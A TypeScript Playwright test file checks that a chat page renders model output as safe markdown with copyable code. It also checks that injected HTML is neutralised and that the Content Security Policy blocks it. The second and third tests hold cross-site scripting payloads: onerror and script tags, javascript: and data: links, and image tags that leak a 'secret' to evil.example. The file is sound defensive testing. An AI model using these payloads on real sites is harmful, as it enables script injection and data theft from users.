import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { launchBrowser, openPage, say } from "./page-browser.js";
import { until } from "./support.js";

/** What a model writes, on the chat page: markdown, and never more than that. */
let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser.close());

describe("what a model writes", () => {
  it("is markdown, with code that can be copied", async () => {
    await using chat = await openPage(browser, ["# Title\n\n| a | b |\n|--|--:|\n| 1 | 2 |\n\n```js\nlet x = 1 < 2;\n```\n\n1. one\n   - inner\n- [x] done\n\nAT&amp;T [site](https://example.org/a?b=1&c=2)"], { permissions: ["clipboard-read", "clipboard-write"] });
    await say(chat.page, "Write");
    const answer = chat.page.locator(".markdown", { hasText: "AT&T" });
    await answer.waitFor();
    expect(await answer.locator("h2").textContent()).toBe("Title");
    expect(await answer.locator("td").allTextContents()).toEqual(["1", "2"]);
    expect(await answer.locator("ol > li ul > li").textContent()).toBe("inner");
    expect(await answer.getByRole("checkbox").isChecked()).toBe(true);
    expect(await answer.locator("a").getAttribute("href")).toBe("https://example.org/a?b=1&c=2");
    await answer.getByRole("button", { name: "Copy code" }).click();
    await chat.page.locator("#announcer", { hasText: "Copied" }).waitFor({ state: "attached" });
    expect(await chat.page.evaluate("navigator.clipboard.readText()")).toBe("let x = 1 < 2;");
  });

  it("stays text where it is HTML, and can neither run, load nor link to anything but the web", async () => {
    const attack = [
      "<img src=x onerror=\"document.title='pwned'\"> <script>document.title='pwned'</script>",
      "<iframe src=\"https://evil.example/\"></iframe>",
      "[a](javascript:document.title='pwned') [b](data:text/html,<script>1</script>) [c](vbscript:x) [d](  JaVaScRiPt:1) [e](//evil.example/x)",
      "![leak](https://evil.example/leak?secret) ![x](javascript:1)",
      "<a href=\"javascript:1\" style=\"position:fixed\">x</a> <svg onload=1>",
      "```html\n<img src=x onerror=1>\n```",
      "`<b>code</b>` <https://fine.example/> [\"onmouseover=\"1](https://fine.example/\"onmouseover=\"1)",
    ].join("\n\n");
    await using chat = await openPage(browser, [{ reasoning: attack, text: attack, toolCalls: [{ name: "<img src=x onerror=1>", arguments: '{"a": "<script>1</script>"}' }] }]);
    await say(chat.page, "<img src=x onerror=1> **not bold**");
    await chat.page.locator(".stats").waitFor();
    expect(await chat.page.title()).toBe("Deskhand");
    expect(await chat.page.locator("#thread :is(img, script, iframe, svg:not(.icon), style, object, embed, [style], [onerror], [onload], [onmouseover])").count()).toBe(0);
    expect(await chat.page.locator(".user strong").count()).toBe(0);
    const links = await chat.page.evaluate<string[][]>("[...document.querySelectorAll('#thread a')].map((link) => [link.protocol, link.rel, link.target])");
    expect(links.length).toBeGreaterThan(0);
    for (const link of links) expect(link).toEqual(["https:", "noopener noreferrer nofollow", "_blank"]);
    expect(chat.asked.filter((url) => !url.startsWith(chat.server.url))).toEqual([]);
    expect(chat.complaints).toEqual([]);
  });

  it("does not run even if it got into the page as HTML: the policy forbids it", async () => {
    await using chat = await openPage(browser, []);
    await expect(chat.page.evaluate("document.body.innerHTML = '<b>x</b>'")).rejects.toThrow(/TrustedHTML/);
    await expect(chat.page.evaluate("document.body.setAttribute('onclick', '1')")).rejects.toThrow(/TrustedScript/);
    await chat.page.evaluate("document.body.append(Object.assign(new Image(), { src: 'https://evil.example/leak' }))");
    await until(() => chat.complaints.some((complaint) => complaint.includes("evil.example") && complaint.includes("Content Security Policy")));
  });
});
